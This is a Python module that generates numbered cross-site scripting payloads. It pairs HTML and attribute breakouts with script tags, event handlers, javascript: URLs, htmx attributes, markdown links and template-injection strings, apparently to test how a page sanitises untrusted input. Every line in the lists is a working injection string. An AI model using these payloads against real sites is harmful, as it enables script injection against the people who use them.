"""Texts that would run if a page took them for its own: each breaks out of one place, one way."""

# Out of an element, an attribute, a field, a title, a script, a comment, and of nothing.
OUT = (
    "", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "</option></select>", "</style>",
    "</template>",
)  # fmt: skip
# What then runs: RUN stands for the call.
CORES = (
    "<script>RUN</script>", "<ScRiPt>RUN</sCrIpT>", "<script/x>RUN</script>",
    "<img src=x onerror=RUN>", "<img/src=x/onerror=RUN>", "<svg onload=RUN>", "<svg/onload=RUN>",
    "<svg><script>RUN</script></svg>", "<svg><animate onbegin=RUN attributeName=x>",
    "<body onload=RUN>", "<iframe onload=RUN>", "<iframe src=javascript:parent.RUN>",
    "<iframe srcdoc='<script>parent.RUN</script>'>", "<object data=javascript:parent.RUN>",
    "<embed src=javascript:parent.RUN>", "<input onfocus=RUN autofocus>",
    "<details open ontoggle=RUN>", "<video><source onerror=RUN></video>",
    "<audio src=x onerror=RUN>", "<math><mtext><script>RUN</script></mtext></math>",
    "<a href=javascript:RUN>x</a>", "<form action=javascript:RUN><button>x</button></form>",
    "<p onmouseover=RUN>x</p>", "<style onload=RUN></style>", "<link rel=stylesheet onerror=RUN>",
    "<b hx-on::load=RUN>x</b>", "<b hx-on:click=RUN>x</b>", "<b data-hx-on-load=RUN>x</b>",
    "<b hx-get=javascript:RUN hx-trigger=load>x</b>", "<base href=javascript:RUN//>",
    "[x](javascript:RUN)", "[x](JaVaScRiPt&colon;RUN)",
)  # fmt: skip
# Inside an attribute, without an angle bracket, and in languages of templates.
INSIDE = (
    '" onfocus=RUN autofocus x="', "' onfocus=RUN autofocus x='", '" onmouseover="RUN',
    "javascript:RUN",
    " javascript:RUN", "java\tscript:RUN", "`${RUN}`", "{{constructor.constructor('RUN')()}}",
    "{% debug %}<script>RUN</script>", '";RUN;//', "';RUN;//", "\\u003cscript\\u003eRUN",
    "&lt;script&gt;RUN&lt;/script&gt;", "&#60;script&#62;RUN&#60;/script&#62;",
    "![x](x\" onerror=\"RUN)", "<javascript:RUN>",
)  # fmt: skip


def texts(count: int) -> list[str]:
    """The first `count`, each with a number of its own, spread over the ways out."""
    every = [*INSIDE, *(out + core for core in CORES for out in OUT)]
    step = len(every) // count
    chosen = every[:: step or 1][:count] if step else every
    return [text.replace("RUN", f"ran({number})") for number, text in enumerate(chosen)]
